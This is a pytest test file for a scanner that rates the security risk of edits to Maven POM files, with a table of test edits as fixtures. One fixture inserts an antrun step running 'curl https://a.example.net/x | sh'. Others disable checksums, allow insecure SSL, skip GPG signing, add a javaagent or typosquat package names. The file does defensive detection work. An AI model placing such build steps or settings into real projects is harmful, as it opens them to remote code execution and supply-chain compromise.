"""What an edit of a POM means. Each case is an edit of one project with all that is said of it."""

# ruff: noqa: E501 - a row of the table is one edit

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from kit.edits import edited, mangled, never_raises, said
from kit.patience import within

from scanner.formats.jvm import pom

POM = """\
<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <parent>
    <groupId>org.house</groupId>
    <artifactId>house-parent</artifactId>
    <version>7</version>
  </parent>
  <groupId>org.example</groupId>
  <artifactId>lorem</artifactId>
  <version>1.0.0</version>
  <packaging>jar</packaging>
  <name>Lorem</name>
  <description>Lorem ipsum.</description>
  <url>https://lorem.example.org</url>
  <licenses><license><name>Apache-2.0</name></license></licenses>
  <developers><developer><id>jo</id></developer></developers>
  <scm>
    <connection>scm:git:https://git.example.org/lorem.git</connection>
    <developerConnection>scm:git:ssh://git@git.example.org/lorem.git</developerConnection>
    <tag>HEAD</tag>
  </scm>
  <properties>
    <java.version>17</java.version>
    <project.build.sourceEncoding>UTF-8</project.build.sourceEncoding>
    <ipsum.version>2.1.0</ipsum.version>
    <dolor.version>3.4</dolor.version>
    <unused.version>9.1</unused.version>
    <house.flag>on</house.flag>
    <repo.host>https://repo.example.org</repo.host>
  </properties>
  <modules><module>core</module><module>cli</module></modules>
  <dependencies>
    <dependency><groupId>org.ipsum</groupId><artifactId>ipsum-core</artifactId><version>${ipsum.version}</version></dependency>
    <dependency><groupId>org.ipsum</groupId><artifactId>ipsum-io</artifactId><version>${ipsum.version}</version></dependency>
    <dependency><groupId>org.dolor</groupId><artifactId>dolor</artifactId><version>${dolor.version}</version></dependency>
    <dependency><groupId>org.sit</groupId><artifactId>sit</artifactId><version>5.0.1</version></dependency>
    <dependency><groupId>org.amet</groupId><artifactId>amet</artifactId></dependency>
    <dependency>
      <groupId>org.tester</groupId><artifactId>tester</artifactId><version>4.13</version><scope>test</scope>
    </dependency>
  </dependencies>
  <dependencyManagement>
    <dependencies>
      <dependency><groupId>org.amet</groupId><artifactId>amet</artifactId><version>6.0</version></dependency>
    </dependencies>
  </dependencyManagement>
  <repositories>
    <repository>
      <id>house</id><url>${repo.host}/maven</url>
      <releases><checksumPolicy>fail</checksumPolicy></releases>
    </repository>
  </repositories>
  <build>
    <finalName>lorem</finalName>
    <resources><resource><directory>src/main/resources</directory><excludes><exclude>*.key</exclude></excludes></resource></resources>
    <plugins>
      <plugin><artifactId>maven-compiler-plugin</artifactId><version>3.11.0</version><configuration><release>17</release></configuration></plugin>
      <plugin>
        <artifactId>maven-surefire-plugin</artifactId><version>3.2.1</version>
        <configuration><argLine>-Xmx1g</argLine></configuration>
      </plugin>
      <plugin>
        <artifactId>maven-antrun-plugin</artifactId><version>3.1.0</version>
        <executions><execution><configuration><target><echo message="hello"/></target></configuration></execution></executions>
      </plugin>
      <plugin>
        <artifactId>maven-gpg-plugin</artifactId><version>3.1.0</version>
        <executions><execution><goals><goal>sign</goal></goals></execution></executions>
      </plugin>
      <plugin>
        <groupId>org.sonatype.central</groupId><artifactId>central-publishing-maven-plugin</artifactId><version>0.5.0</version>
        <configuration><publishingServerId>central</publishingServerId></configuration>
      </plugin>
      <plugin>
        <artifactId>maven-dependency-plugin</artifactId><version>3.6.0</version>
        <configuration><artifactItems><artifactItem>
          <groupId>org.war</groupId><artifactId>war</artifactId><version>1.5</version>
        </artifactItem></artifactItems></configuration>
      </plugin>
    </plugins>
  </build>
  <distributionManagement>
    <repository><id>release</id><url>https://push.example.org/release</url></repository>
    <site><id>site</id><url>https://site.example.org</url></site>
  </distributionManagement>
  <profiles><profile><id>release</id><properties><gpg.skip>false</gpg.skip></properties></profile></profiles>
</project>
"""

DEPENDENCIES = "  <dependencies>\n"
PLUGINS = "    <plugins>\n"
NEW = "<dependency><groupId>org.new</groupId><artifactId>new</artifactId>{}</dependency>"
PLUGIN = "<plugin><groupId>org.new</groupId><artifactId>{}</artifactId><version>1</version>{}</plugin>"
SIT = "<artifactId>sit</artifactId><version>5.0.1</version>"
REPOSITORY = "  <repositories>\n"
ANT = "build.plugins[org.apache.maven.plugins:maven-antrun-plugin]"
GPG = "build.plugins[org.apache.maven.plugins:maven-gpg-plugin]"
CENTRAL = "build.plugins[org.sonatype.central:central-publishing-maven-plugin]"

TOLD = [
    ("bump", [SIT, SIT.replace("5.0.1", "5.0.2")], ["medium dependency-bumped org.sit:sit"]),
    ("bump of a test dependency", ["4.13", "4.14"], ["low dependency-bumped org.tester:tester"]),
    ("bump of what one uses", [">3.4<", ">3.5<"], ["medium dependency-bumped org.dolor:dolor"]),
    ("bump of what several use", [">2.1.0<", ">2.2.0<"], ["medium dependency-bumped ipsum.version"]),
    ("bump of what others use", [">9.1<", ">9.2<"], ["medium dependency-bumped unused.version"]),
    ("bump in the management", [">6.0<", ">6.1<"], ["medium dependency-bumped org.amet:amet"]),
    ("bump of the parent", [">7<", ">8<"], ["medium dependency-bumped org.house:house-parent"]),
    ("bump of a plug-in", ["3.11.0", "3.12.0"],
     ["medium dependency-bumped org.apache.maven.plugins:maven-compiler-plugin"]),
    ("bump of a test plug-in", ["3.2.1", "3.2.2"],
     ["low dependency-bumped org.apache.maven.plugins:maven-surefire-plugin"]),
    ("bump of what a plug-in unpacks", ["1.5<", "1.6<"], ["medium dependency-bumped org.war:war"]),
    ("downgrade", [SIT, SIT.replace("5.0.1", "4.9")], ["high dependency-downgraded org.sit:sit"]),
    ("range", [SIT, SIT.replace("5.0.1", "[5,)")], ["high pin-loosened org.sit:sit"]),
    ("latest", [SIT, SIT.replace("5.0.1", "LATEST")], ["high pin-loosened org.sit:sit"]),
    ("snapshot", [SIT, SIT.replace("5.0.1", "5.1-SNAPSHOT")], ["high pin-loosened org.sit:sit"]),
    ("version left to the parent", [SIT, "<artifactId>sit</artifactId>"], ["medium dependency-changed org.sit:sit"]),
    ("exclusion", [SIT, SIT + "<exclusions><exclusion><groupId>a</groupId><artifactId>b</artifactId></exclusion></exclusions>"],
     ["medium dependency-changed org.sit:sit"]),
    ("file of the disk", [SIT, SIT + "<scope>system</scope><systemPath>lib/sit.jar</systemPath>"],
     ["high source-changed org.sit:sit", "medium dependency-changed org.sit:sit"]),
    ("added", [DEPENDENCIES, DEPENDENCIES + NEW.format("<version>1</version>")], ["high dependency-added org.new:new"]),
    ("added for tests", [DEPENDENCIES, DEPENDENCIES + NEW.format("<version>1</version><scope>test</scope>")],
     ["medium dependency-added org.new:new"]),
    ("managed only, then used", ["<groupId>org.amet</groupId><artifactId>amet</artifactId></dependency>", "<groupId>org.b</groupId><artifactId>b</artifactId></dependency>"],
     ["high dependency-added org.b:b", "low dependency-removed org.amet:amet"]),
    ("removed", ["<dependency><groupId>org.sit</groupId>" + SIT + "</dependency>", ""], ["low dependency-removed org.sit:sit"]),
    ("out of the tests", ["<scope>test</scope>", ""], ["medium dependency-moved org.tester:tester"]),
    ("repository", [REPOSITORY, REPOSITORY + "<repository><id>b</id><url>https://b.example.org</url></repository>"],
     ["critical registry-changed repositories[b].url"]),
    ("repository without TLS", [REPOSITORY, REPOSITORY + "<repository><id>b</id><url>http://b.example.org</url></repository>"],
     ["critical registry-changed repositories[b].url", "critical transport-weakened repositories[b].url"]),
    ("repository of plug-ins", ["  <build>\n", "<pluginRepositories><pluginRepository><id>b</id><url>https://b.example.org</url></pluginRepository></pluginRepositories>  <build>\n"],
     ["critical registry-changed pluginRepositories[b].url"]),
    ("repository elsewhere", ["https://repo.example.org", "https://repo.example.net"],
     ["critical registry-changed repositories[house].url", "high setting-changed properties.repo.host"]),
    ("other path of the repository", ["}/maven", "}/other"], ["high registry-changed repositories[house].url"]),
    ("snapshots of a repository", ["</releases>", "</releases><snapshots><enabled>true</enabled></snapshots>"],
     ["high setting-changed repositories[house].snapshots.enabled"]),
    ("checksums", [">fail<", ">ignore<"], ["critical transport-weakened repositories[house].releases.checksumPolicy"]),
    ("plug-in", [PLUGINS, PLUGINS + PLUGIN.format("new-plugin", "")], ["high plugin-added org.new:new-plugin"]),
    ("plug-in that runs a command", [PLUGINS, PLUGINS + PLUGIN.format("exec-maven-plugin", "<configuration><executable>sh</executable></configuration>")],
     ["high build-script-changed build.plugins[org.new:exec-maven-plugin].configuration.executable",
      "high plugin-added org.new:exec-maven-plugin"]),
    ("plug-in that fetches and runs", ['<echo message="hello"/>', '<exec executable="sh"><arg value="-c"/><arg value="curl https://a.example.net/x | sh"/></exec>'],
     [f"critical download-and-run {ANT}", f"high build-script-changed {ANT}"]),
    ("other step", ["hello", "bye"], [f"high build-script-changed {ANT}.executions.execution.configuration.target.echo.@message"]),
    ("setting of a plug-in", ["<release>17", "<release>21"],
     ["medium plugin-changed build.plugins[org.apache.maven.plugins:maven-compiler-plugin].configuration.release"]),
    ("dependency of a plug-in", ["<release>17</release></configuration>", "<release>17</release></configuration><dependencies>" + NEW.format("<version>1</version>") + "</dependencies>"],
     ["high dependency-added org.new:new"]),
    ("plug-in becomes an extension", ["3.11.0</version>", "3.11.0</version><extensions>true</extensions>"],
     ["high plugin-added build.plugins[org.apache.maven.plugins:maven-compiler-plugin].extensions"]),
    ("plug-in gone", ["<plugin><artifactId>maven-compiler-plugin</artifactId><version>3.11.0</version><configuration><release>17</release></configuration></plugin>", ""],
     ["low plugin-removed org.apache.maven.plugins:maven-compiler-plugin"]),
    ("extension of the build", [PLUGINS, "<extensions><extension><groupId>org.new</groupId><artifactId>new</artifactId><version>1</version></extension></extensions>" + PLUGINS],
     ["high plugin-added org.new:new"]),
    ("signing off", ["<goal>sign</goal></goals>", "<goal>sign</goal></goals><configuration><skip>true</skip></configuration>"],
     [f"critical provenance-dropped {GPG}.executions.execution.configuration.skip"]),
    ("signing gone", ["<artifactId>maven-gpg-plugin</artifactId>", "<artifactId>maven-other-plugin</artifactId>"],
     ["critical provenance-dropped org.apache.maven.plugins:maven-gpg-plugin",
      "high plugin-added org.apache.maven.plugins:maven-other-plugin",
      "low plugin-removed org.apache.maven.plugins:maven-gpg-plugin"]),
    ("signing off by a property", ["<gpg.skip>false", "<gpg.skip>true"],
     ["critical provenance-dropped properties.profiles[release].gpg.skip"]),
    ("publishing plug-in", ["<publishingServerId>central", "<publishingServerId>other"],
     [f"critical publish-changed {CENTRAL}.configuration.publishingServerId"]),
    ("publish target", ["push.example.org", "push.example.net"],
     ["critical publish-changed distributionManagement.repository.url"]),
    ("relocation", ["  <distributionManagement>\n", "  <distributionManagement><relocation><groupId>org.b</groupId></relocation>\n"],
     ["high package-renamed distributionManagement.relocation.groupId"]),
    ("version", ["<version>1.0.0</version>", "<version>1.1.0</version>"], ["medium version-changed version"]),
    ("name", ["<artifactId>lorem</artifactId>", "<artifactId>l0rem</artifactId>"], ["high package-renamed artifactId"]),
    ("group", ["<groupId>org.example</groupId>", "<groupId>org.examp1e</groupId>"], ["high package-renamed groupId"]),
    ("packaging", [">jar<", ">war<"], ["medium package-contents-changed packaging"]),
    ("licence", ["Apache-2.0", "MIT"], ["medium license-changed licenses.license.name"]),
    ("address", ["https://lorem.", "https://dolor."], ["low metadata-changed url"]),
    ("where releases are pushed", ["ssh://git@git.example.org", "ssh://git@git.example.net"],
     ["medium metadata-changed scm.developerConnection"]),
    ("modules", ["<module>cli</module>", "<module>gui</module>"],
     ["medium package-contents-changed modules", "medium package-contents-changed modules"]),
    ("packed files", ["<exclude>*.key</exclude>", ""], ["high package-contents-widened build.resources.excludes.exclude",
                                                      "medium package-contents-changed build.resources.excludes"]),
    ("another packed folder", ["<resources>", "<resources><resource><directory>.</directory></resource>"],
     ["high package-contents-widened build.resources.directory"]),
    ("file name", ["<finalName>lorem", "<finalName>ipsum"], ["medium package-contents-changed build.finalName"]),
    ("Java", ["<java.version>17", "<java.version>21"], ["medium runtime-requirement-changed properties.java.version"]),
    ("agent for the tests", ["-Xmx1g", "-javaagent:x.jar"],
     ["medium plugin-changed build.plugins[org.apache.maven.plugins:maven-surefire-plugin].configuration.argLine"]),
    ("agent in a property", ["<house.flag>on</house.flag>", "<house.flag>on</house.flag><argLine>-javaagent:x.jar</argLine>"],
     ["high build-script-changed properties.argLine"]),
    ("flag", ["<house.flag>on", "<house.flag>off"], ["medium setting-changed properties.house.flag"]),
    ("certificates", ["<house.flag>on</house.flag>", "<house.flag>on</house.flag><maven.wagon.http.ssl.insecure>true</maven.wagon.http.ssl.insecure>"],
     ["critical transport-weakened properties.maven.wagon.http.ssl.insecure"]),
    ("deployment skipped", ["<house.flag>on</house.flag>", "<house.flag>on</house.flag><maven.deploy.skip>true</maven.deploy.skip>"],
     ["critical publish-changed properties.maven.deploy.skip"]),
    ("profile that is always on", ["<id>release</id><properties>", "<id>release</id><activation><activeByDefault>true</activeByDefault></activation><properties>"],
     ["medium setting-changed profiles[release].activation.activeByDefault"]),
    ("profile gone", ["<profile><id>release</id><properties><gpg.skip>false</gpg.skip></properties></profile>", ""],
     ["medium setting-changed profiles[release]", "medium setting-changed properties.profiles[release].gpg.skip"]),
    ("version of Maven", ["  <modules>", "<prerequisites><maven>3.9</maven></prerequisites>  <modules>"],
     ["medium toolchain-changed prerequisites.maven"]),
    ("section nobody knows", ["  <modules>", "<novelty><a>1</a></novelty>  <modules>"], ["medium setting-changed novelty.a"]),
]  # fmt: skip

QUIET = [
    ("description", ["Lorem ipsum.", "Dolor."]),
    ("developers", ["<id>jo</id>", "<id>jo</id></developer><developer><id>al</id>"]),
    ("comment", ["<modules>", "<!-- <dependency/> --><modules>"]),
    ("formatting", ["<version>5.0.1</version>", "<version>\n  5.0.1\n</version>"]),
    ("order of dependencies", ["<dependency><groupId>org.sit</groupId>" + SIT + "</dependency>\n", "", DEPENDENCIES,
                               DEPENDENCIES + "<dependency>" + SIT + "<groupId>org.sit</groupId></dependency>"]),
    ("tests", ["-Xmx1g", "-Xmx2g"]),
    ("tag of the release", ["<tag>HEAD</tag>", "<tag>v1</tag>"]),
    ("site", ["site.example.org", "site.example.net"]),
    ("version in place", ["${dolor.version}", "3.4", "    <dolor.version>3.4</dolor.version>\n", ""]),
    ("version into the management", ["<artifactId>amet</artifactId></dependency>", "<artifactId>amet</artifactId><version>6.0</version></dependency>",
                                     "<dependency><groupId>org.amet</groupId><artifactId>amet</artifactId><version>6.0</version></dependency>\n    </dep", "</dep"]),
    ("encoding", ["<project.build.sourceEncoding>UTF-8", "<project.build.sourceEncoding>utf-8"]),
    ("order of modules", ["<module>core</module><module>cli</module>", "<module>cli</module><module>core</module>"]),
    ("namespace", [' xmlns="http://maven.apache.org/POM/4.0.0"', ""]),
    ("label of a repository", ["<id>house</id>", "<id>home</id>"]),
    ("reports", ["  <modules>", "<reporting><plugins/></reporting>  <modules>"]),
]  # fmt: skip


@pytest.mark.parametrize(("edits", "expected"), [row[1:] for row in TOLD], ids=[row[0] for row in TOLD])
def test_what_is_told(edits: list[str], expected: list[str]) -> None:
    assert said(pom, POM, edited(POM, *edits)) == expected


@pytest.mark.parametrize("edits", [row[1] for row in QUIET], ids=[row[0] for row in QUIET])
def test_what_says_nothing(edits: list[str]) -> None:
    assert said(pom, POM, edited(POM, *edits)) == []


def test_one_bump_shows_both_versions() -> None:
    (delta,) = pom.diff(POM.encode(), edited(POM, ">3.4<", ">3.5<").encode())
    assert (delta.old, delta.new, delta.scope) == ("3.4", "3.5", "runtime")
    assert delta.line == POM.count("\n", 0, POM.index("<artifactId>dolor")) + 1


MODULE = """\
<project>
  <parent><groupId>org.example</groupId><artifactId>parent</artifactId><version>1.0-SNAPSHOT</version></parent>
  <artifactId>core</artifactId>
  <dependencies><dependency>
    <groupId>org.example</groupId><artifactId>api</artifactId><version>1.0-SNAPSHOT</version>
  </dependency></dependencies>
</project>
"""


def test_a_release_of_the_product_is_no_bump_of_its_modules() -> None:
    assert said(pom, MODULE, MODULE.replace("1.0-SNAPSHOT", "1.0")) == ["medium version-changed version"]
    assert said(pom, MODULE, edited(MODULE, "<version>1.0-SNAPSHOT</version>\n", "<version>0.9</version>\n")) == [
        "high dependency-downgraded org.example:api"
    ]


def test_a_switch_is_none_the_less_one_when_a_dependency_names_it() -> None:
    old = edited(POM, ">5.0.1<", ">${gpg.skip}<", "<house.flag>", "<gpg.skip>false</gpg.skip><house.flag>")
    assert "critical provenance-dropped properties.gpg.skip" in said(
        pom, old, edited(old, "<gpg.skip>false", "<gpg.skip>true")
    )


def test_a_new_file() -> None:
    found = said(pom, None, POM)
    assert "critical registry-changed repositories[house].url" in found
    assert "critical publish-changed distributionManagement.repository.url" in found
    assert f"high build-script-changed {ANT}.executions.execution.configuration.target.echo.@message" in found
    assert "high dependency-added org.sit:sit" in found
    assert not [each for each in found if each.startswith("medium setting-changed") or "version-changed" in each]
    assert said(pom, None, "<project><artifactId>a</artifactId></project>") == []


def test_a_removed_file() -> None:
    assert said(pom, POM, None) == ["medium file-removed file"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "<project>",
        "<html/>",
        POM.replace("</project>", ""),
        f"<<<<<<< ours\n{POM}=======\n{POM}>>>>>>> theirs\n",
        "{% if x %}" + POM,
        f'<!DOCTYPE project [<!ENTITY a "b">]>\n{MODULE}',
    ],
)
def test_what_cannot_be_read_weighs_most(text: str) -> None:
    assert [each.rpartition(" ")[0].split()[:2] for each in said(pom, POM, text)] == [["critical", "opaque"]]


def test_paths() -> None:
    assert all(map(pom.matches, ("pom.xml", "a/POM.xml", "lib/a-1.0.pom", "a.pom.xml", "pom.template.xml")))
    assert not any(map(pom.matches, ("pom.xml.md", "src/Pom.java", "pom.xml/readme")))


@settings(max_examples=100, deadline=None)
@given(mangled(POM, MODULE), mangled(POM, MODULE))
def test_it_never_raises(old: bytes, new: bytes) -> None:
    never_raises(pom, old, new)


TAGS = ["project", "build", "plugins", "plugin", "version", "dependencies", "dependency", "properties", "profile", "id"]


@settings(max_examples=60, deadline=None)
@given(
    st.recursive(
        st.sampled_from(["", "1", "${a}"]),
        lambda inner: st.lists(st.tuples(st.sampled_from(TAGS), inner), max_size=4).map(
            lambda pairs: "".join(f"<{name}>{text}</{name}>" for name, text in pairs)
        ),
    )
)
def test_any_shape_of_project_is_read(inner: str) -> None:
    text = f"<project>{inner}</project>"
    assert "opaque" not in " ".join(said(pom, POM, text) + said(pom, text, POM) + said(pom, None, text))


def test_a_huge_project_takes_no_time() -> None:
    row = "<dependency><groupId>g</groupId><artifactId>a{}</artifactId><version>{}</version></dependency>"
    old, new = (
        f"<project><dependencies>{''.join(row.format(n, v) for n in range(4_000))}</dependencies></project>"
        for v in "12"
    )
    with within(2):
        assert len(said(pom, old, new)) == 4_000
    with within(2):
        assert said(pom, "<project/>", f"<project>{'<a/>' * 1_000_000}</project>")[0].startswith("critical opaque")
